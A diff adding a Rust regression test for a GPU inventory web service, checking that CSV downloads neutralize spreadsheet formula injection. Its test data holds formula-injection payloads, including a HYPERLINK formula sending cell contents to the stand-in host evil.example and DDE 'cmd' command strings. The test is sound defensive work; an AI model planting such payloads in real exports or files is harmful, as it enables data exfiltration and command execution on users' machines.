@@ -1073,3 +1073,126 @@ async fn ops_readyz_follows_the_database() {
     assert!(body.contains("database"), "{body}");
     assert_eq!(app.get("/healthz").await.0, 200);
 }
+
+// ---------------------------------------------------------------------------------------------
+// Regressions of issue 14 (holes found by probing as an attacker would).
+
+/// Cells a spreadsheet would run as a formula (OWASP's CSV-injection list).
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell that is a number as shown (`-12`, `-$1,234.50`, `-3.5 %`): a spreadsheet reads it as
+/// a number, never as a formula.
+fn shown_number(cell: &str) -> bool {
+    let digits = cell.trim_end_matches(" %").replace(['$', ','], "");
+    digits.parse::<f64>().is_ok_and(f64::is_finite)
+}
+
+/// Every table link (`?csv=<id>`) on a page.
+fn csv_links(html: &str) -> Vec<String> {
+    html.split("href=\"")
+        .skip(1)
+        .filter_map(|s| s.split('"').next())
+        .filter(|h| h.contains("csv="))
+        .map(|h| h.replace("&#38;", "&").replace("&amp;", "&"))
+        .collect()
+}
+
+/// Issue 14: a label or model starting with `=`, `+`, `-`, `@`, tab or CR was written raw at
+/// the start of a cell in every CSV download, so opening the download ran it as a formula.
+#[tokio::test]
+async fn csv_formula_injection_is_neutralized_in_every_download() {
+    let app = app(WebConfig::default()).await;
+    let token = app.token("-src", &[]).await;
+    let model = r#"=HYPERLINK("http://evil.example/?d="&A1,"details")"#;
+    let body = json!({
+        "gpus": [{"uuid": A, "model": model, "host": "@SUM(1+1)", "cluster": "\t=1+1",
+                  "cloud": "aws", "region": "\r=2+2",
+                  "labels": {"team": "+team", "env": "-2+3+cmd|' /C calc'!A0"},
+                  "observed_at": "2026-12-02T10:30:00Z"}],
+        "samples": [{"gpu_uuid": A, "ts": "2026-12-02T10:40:00Z", "util_pct": 1}],
+        "allocations": [{"gpu_uuid": A, "start": "2026-12-02T10:00:00Z", "workload": "=cmd|' /C calc'!A0",
+                         "kind": "pod", "user": "@user", "team": "-used"}]
+    });
+    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(reply["rejected"], json!([]), "{reply}");
+
+    let mut downloads: Vec<String> = vec![
+        "/api/v1/gpus?format=csv".into(),
+        format!("/api/v1/gpus/{A}?format=csv"),
+        "/api/v1/sources?format=csv".into(),
+    ];
+    for by in ["team", "env", "cloud", "cluster", "model"] {
+        downloads.push(format!("/api/v1/summary?group_by={by}&format=csv"));
+    }
+    let team = app.get_json("/api/v1/gpus").await["items"][0]["team"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    for page in [
+        "/".to_string(),
+        "/inventory".into(),
+        format!("/gpus/{A}"),
+        "/teams".into(),
+        format!(
+            "/teams/{}",
+            form_urlencoded::byte_serialize(team.as_bytes()).collect::<String>()
+        ),
+        "/usage".into(),
+        "/waste".into(),
+        "/sources".into(),
+    ] {
+        let (status, html) = app.get(&page).await;
+        assert_eq!(status, 200, "{page}: {html}");
+        let links = csv_links(&html);
+        assert!(!links.is_empty() || page == "/", "{page} has no CSV link");
+        downloads.extend(links);
+    }
+    let mut neutralized = std::collections::BTreeSet::new();
+    for path in &downloads {
+        let (status, text) = app.get(path).await;
+        assert_eq!(status, 200, "{path}: {text}");
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes());
+        for rec in r.records() {
+            for cell in rec.unwrap().iter() {
+                assert!(
+                    !formula_like(cell) || shown_number(cell),
+                    "{path}: cell {cell:?} would run as a formula\n{text}"
+                );
+                if cell.starts_with('\'') && formula_like(&cell[1..]) {
+                    neutralized.insert(cell.to_string());
+                }
+            }
+        }
+        // Neutralized cells stay quoted, so no reader splits them.
+        for line in text
+            .lines()
+            .filter(|l| l.contains(",'") || l.starts_with('\''))
+        {
+            assert!(
+                !line.starts_with('\'') && !line.contains(",'"),
+                "{path}: unquoted neutralized cell in {line:?}"
+            );
+        }
+    }
+    assert!(
+        neutralized.contains(&format!("'{model}")),
+        "the model is kept, prefixed: {neutralized:?}"
+    );
+    for value in ["'@SUM(1+1)", "'\t=1+1", "'+team"] {
+        assert!(
+            neutralized.contains(value),
+            "{value:?} not in {neutralized:?}"
+        );
+    }
+    // The JSON API keeps the value as pushed: only CSV cells are neutralized.
+    assert_eq!(
+        app.get_json("/api/v1/gpus").await["items"][0]["model"],
+        model
+    );
+}
